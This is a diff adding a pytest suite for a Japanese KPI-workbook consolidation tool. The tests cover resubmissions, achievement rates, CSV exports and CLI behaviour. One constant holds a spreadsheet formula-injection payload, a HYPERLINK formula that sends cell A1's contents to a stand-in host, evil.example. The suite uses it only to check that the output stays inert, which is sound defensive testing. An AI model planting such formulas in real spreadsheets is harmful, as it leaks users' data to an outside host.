@@ -1,0 +1,221 @@
+"""consolidate: figures worked out by hand from the seeds, and nothing lost on the way."""
+import csv
+import json
+import re
+import shutil
+import zipfile
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from kpi_workbook.cli import cli
+from kpi_workbook.consolidate import consolidate
+from kpi_workbook.fill import fill_workbook
+
+from .conftest import CORPUS, SAMPLES
+
+INJECTION = '=HYPERLINK("http://evil.example/"&A1,"click")'
+
+
+def set_modified(path, stamp):
+    """Rewrite the workbook's own modified time (what decides which resubmission wins)."""
+    with zipfile.ZipFile(path) as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    core = parts["docProps/core.xml"].decode()
+    core = re.sub(r"(<dcterms:modified[^>]*>)[^<]*(<)", rf"\g<1>{stamp}\g<2>", core)
+    parts["docProps/core.xml"] = core.encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+
+
+@pytest.fixture(scope="module")
+def returns(generated, tmp_path_factory):
+    """The sample returns (seeds' numbers), plus a resubmission, a foreign file, junk."""
+    folder = tmp_path_factory.mktemp("returns")
+    for answers in sorted((SAMPLES / "returns").glob("*.json")):
+        data = json.loads(answers.read_text(encoding="utf-8"))
+        path = fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name)
+        set_modified(path, "2021-10-15T09:00:00Z")
+    # 播磨 sends a corrected file later; the first one had a typo and an injected formula
+    first = json.loads((SAMPLES / "returns" / "R02.json").read_text(encoding="utf-8"))
+    first["KPI"][0]["目標値"] = "百八十四"
+    first["KPI"][0]["指標名"] = INJECTION
+    old = fill_workbook(generated["R02"], first, folder / "old" / "R02_初回.xlsx")
+    set_modified(old, "2021-10-01T09:00:00Z")
+    shutil.copy(CORPUS / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
+    (folder / "~$R01_熊本連携中枢都市圏.xlsx").write_bytes(b"lock")
+    (folder / "readme.txt").write_text("memo", encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def summary(returns, tmp_path_factory):
+    out = tmp_path_factory.mktemp("summary")
+    result = consolidate(returns, SAMPLES / "roster.csv", out / "summary.xlsx", csv_dir=out / "csv", jobs=2)
+    return result, openpyxl.load_workbook(out / "summary.xlsx"), out
+
+
+def rows(ws):
+    return [list(r) for r in ws.iter_rows(values_only=True)]
+
+
+def test_submission_outcomes(summary):
+    result, _, _ = summary
+    status = {s.relative: s.status for s in result.submissions}
+    assert status["old/R02_初回.xlsx"] == "superseded"
+    assert status["R02_播磨圏域連携中枢都市圏.xlsx"] == "used"
+    assert status["foreign.xlsx"] == "failed"
+    assert status["~$R01_熊本連携中枢都市圏.xlsx"] == "skipped" and status["readme.txt"] == "skipped"
+    assert [r.code for r in result.missing] == ["R09", "R10"]
+    assert len(result.used) == 8
+
+
+def test_overview_sentence_and_counts(summary):
+    result, book, _ = summary
+    overview = {r[0]: r[1] for r in rows(book["概要"]) if r[0]}
+    headline = [r[0] for r in rows(book["概要"]) if r[0] and "圏域のうち" in str(r[0])][0]
+    assert headline == "連携中枢都市圏を形成している10圏域のうち、8圏域において各圏域の特性を踏まえた施策や事業に応じたＫＰＩを設定済み。"
+    assert overview["名簿の圏域数"] == 10 and overview["提出された圏域数"] == 8
+    assert overview["未提出の圏域数"] == 2 and overview["エラーのある圏域数"] == 1  # 備後 (R08)
+    assert overview["差し替えられたファイル数"] == 1 and overview["対象外のファイル数"] == 2
+    assert overview["KPIの総数"] == 12
+    assert overview["行数の照合"] == "読み込んだ行 42件 ＝ 集計した行 42件 ＋ 除外した行 0件（除外した行は「指摘一覧」に記載）"
+
+
+def test_setting_table_counts_regions_per_leaf(summary):
+    _, book, _ = summary
+    table = {r[0]: r[2:5] for r in rows(book["KPI設定状況"]) if r[0] and r[2] is not None and isinstance(r[2], (int, float))}
+    assert table["アb"] == [1, 10, 1] and table["イa"] == [1, 10, 2]  # 久留米: two KPIs, one region
+    assert table["アd"][0] == 1 and table["ウCd"] == [1, 10, 2] and table["アa"][0] == 0
+    assert sum(v[0] for v in table.values()) == 8
+    matrix = rows(book["圏域別設定状況"])
+    header = matrix[0]
+    kurume = next(r for r in matrix if r[0] == "R03")
+    assert kurume[header.index("イa")] == "○" and kurume[-1] == 1
+    assert next(r for r in matrix if r[0] == "R09")[-1] == 0
+
+
+EXPECTED_RATES = {  # region, KPI → (達成率, 区分), from seed 002 and seed 004
+    ("R01", "K001"): (108.4, "達成"), ("R02", "K001"): (102.7, "達成"), ("R03", "K001"): (180.0, "達成"),
+    ("R03", "K002"): (164.5, "達成"), ("R04", "K001"): (104.4, "達成"), ("R05", "K001"): (175.0, "達成"),
+    ("R06", "K001"): (126.0, "達成"), ("R07", "K001"): (77.8, "A"), ("R07", "K002"): (38.1, "B"),
+    ("R07", "K003"): (113.9, "達成"), ("R07", "K004"): (100.0, "達成"), ("R08", "K001"): (None, "N"),
+}
+
+
+def test_achievement_rates_from_the_seeds(summary):
+    _, book, _ = summary
+    table = rows(book["KPI一覧"])
+    header = table[0]
+    got = {(r[0], r[header.index("KPI番号")]): (r[header.index("達成率（%）")], r[header.index("区分")]) for r in table[1:]}
+    assert got == EXPECTED_RATES
+
+
+def test_toyama_below_baseline_warning_is_listed(summary):
+    _, book, _ = summary
+    findings = rows(book["指摘一覧"])
+    assert any(r[7] == "TARGET_AGAINST_DIRECTION" and r[1].startswith("R04") and r[3] == "J4" for r in findings)
+
+
+def test_evaluation_sheet_for_asahikawa(summary):
+    _, book, _ = summary
+    cells = [c for row in book["事務事業評価"].iter_rows(values_only=True) for c in row if c is not None]
+    assert "12 11 01" in cells and "広域行政推進事業" in cells and "地方自治法第252条の2" in cells
+    assert 77.8 in cells and 38.1 in cells and "達成" in cells
+    assert 115 in cells and 301 in cells and 404 in cells and 210 in cells
+    marks = [c for c in cells if isinstance(c, str) and c.startswith("①") and "③業務の効率化　○" in c]
+    assert len(marks) == 1  # 旭川: ③ and ⑦ marked, the others not
+    assert "⑦職員能力・組織力の向上　○" in marks[0] and "①デジタル化・DX　\n" in marks[0]
+
+
+def test_status_sheet_has_national_kpi_first(summary):
+    _, book, _ = summary
+    status = rows(book["KPIの状況"])
+    assert status[0][:4] == ["ＫＰＩ", "目標値（達成時期）", "実績値（時点）", "区分"]
+    assert status[1][0] == "全国：「連携中枢都市圏」の形成数" and status[1][2].startswith("10圏域")
+    assert ["高梁川流域連携中枢都市圏：倉敷・流域お試し住宅利用による移住者数", "100人（H27~R1）", "126人（H27~R1）", "達成"] in [r[:4] for r in status]
+
+
+def test_submissions_sheet_lists_every_region(summary):
+    _, book, _ = summary
+    table = rows(book["提出状況"])
+    by_code = {}
+    for r in table[1:]:
+        by_code.setdefault(r[0], r)  # roster regions come first; other files are listed below
+    assert by_code["R09"][2] == "未提出" and by_code["R08"][7] == "エラーあり"
+    assert by_code["R02"][3] == "R02_播磨圏域連携中枢都市圏.xlsx"
+    assert any(r[3] == "old/R02_初回.xlsx" and r[2] == "差し替え前（集計に不使用）" for r in table)
+
+
+def test_findings_link_to_cells_and_are_complete(summary):
+    result, book, out = summary
+    ws = book["指摘一覧"]
+    links = [c.hyperlink for row in ws.iter_rows(min_row=2) for c in row if c.hyperlink]
+    assert any(h.target.endswith("R08_備後圏域連携中枢都市圏.xlsx") and h.location == "'事業'!D4"
+               for h in links)  # 備後: 取組分類「ア-d」
+    codes = {r[7] for r in rows(ws)[1:]}
+    assert {"REGION_NOT_RETURNED", "RETURN_SUPERSEDED", "FILE_SKIPPED", "META_MISSING", "CHOICE_INVALID"} <= codes
+
+
+def test_csv_exports(summary):
+    _, _, out = summary
+    files = sorted(p.name for p in (out / "csv").iterdir())
+    assert files == ["actuals.csv", "costs.csv", "datapackage.json", "findings.csv", "kpis.csv", "projects.csv",
+                     "regions.csv", "submissions.csv"]
+    raw = (out / "csv" / "kpis.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    table = list(csv.DictReader((out / "csv" / "kpis.csv").open(encoding="utf-8-sig")))
+    assert len(table) == 12
+    kumamoto = next(r for r in table if r["圏域コード"] == "R01")
+    assert kumamoto["現状値"] == "1084" and kumamoto["現状値（記入）"] == "１，０８４" and kumamoto["達成率（%）"] == "108.4"
+    package = json.loads((out / "csv" / "datapackage.json").read_text(encoding="utf-8"))
+    assert [r["name"] for r in package["resources"]] == ["projects", "costs", "kpis", "actuals", "findings", "regions", "submissions"]
+
+
+def test_formula_text_stays_inert(generated, tmp_path):
+    data = json.loads((SAMPLES / "returns" / "R05.json").read_text(encoding="utf-8"))
+    data["KPI"][0]["指標名"] = INJECTION
+    data["KPI"][0]["備考"] = "+81-3-1234-5678"
+    folder = tmp_path / "in"
+    fill_workbook(generated["R05"], data, folder / "R05.xlsx")
+    consolidate(folder, SAMPLES / "roster.csv", tmp_path / "s.xlsx", csv_dir=tmp_path / "csv", jobs=1)
+    with zipfile.ZipFile(tmp_path / "s.xlsx") as zf:
+        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml  # no formula anywhere in the summary
+    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
+    assert any(c.value == INJECTION and c.data_type == "s" for row in book["KPI一覧"].iter_rows() for c in row)
+    text = (tmp_path / "csv" / "kpis.csv").read_text(encoding="utf-8-sig")
+    assert "'" + INJECTION.replace('"', '""') in text and ",+81-3-1234-5678," in text
+
+
+def test_same_inputs_same_bytes(returns, tmp_path):
+    first = consolidate(returns, SAMPLES / "roster.csv", tmp_path / "a.xlsx", csv_dir=tmp_path / "a", jobs=2)
+    second = consolidate(returns, SAMPLES / "roster.csv", tmp_path / "b.xlsx", csv_dir=tmp_path / "b", jobs=1)
+    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
+    for name in ("kpis.csv", "findings.csv", "submissions.csv"):
+        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
+    assert first.totals == second.totals
+
+
+def test_cli_exit_codes(returns, tmp_path):
+    runner = CliRunner()
+    result = runner.invoke(cli, ["consolidate", str(returns), "--roster", str(SAMPLES / "roster.csv"),
+                                 "-o", str(tmp_path / "s.xlsx")])
+    assert result.exit_code == 1, result.output  # missing regions and errors
+    assert "行数の照合：読み込んだ行 42件 ＝ 集計した行 42件 ＋ 除外した行 0件" in result.output
+    assert "集計結果：" in result.output and (tmp_path / "s.xlsx").exists()
+    clean = tmp_path / "clean"
+    clean.mkdir()
+    shutil.copy(next(returns.glob("R05_*.xlsx")), clean)
+    roster = tmp_path / "r.csv"
+    roster.write_text((SAMPLES / "roster.csv").read_text(encoding="utf-8").splitlines()[0] + "\n"
+                      + [line for line in (SAMPLES / "roster.csv").read_text(encoding="utf-8").splitlines()
+                         if line.startswith("R05")][0] + "\n", encoding="utf-8")
+    result = runner.invoke(cli, ["consolidate", str(clean), "--roster", str(roster), "-o", str(tmp_path / "c.xlsx")])
+    assert result.exit_code == 0, result.output
+    blocker = tmp_path / "file"
+    blocker.write_text("x")
+    result = runner.invoke(cli, ["consolidate", str(clean), "--roster", str(roster), "-o", str(blocker / "s.xlsx")])
+    assert result.exit_code == 2 and "書き出せません" in result.output
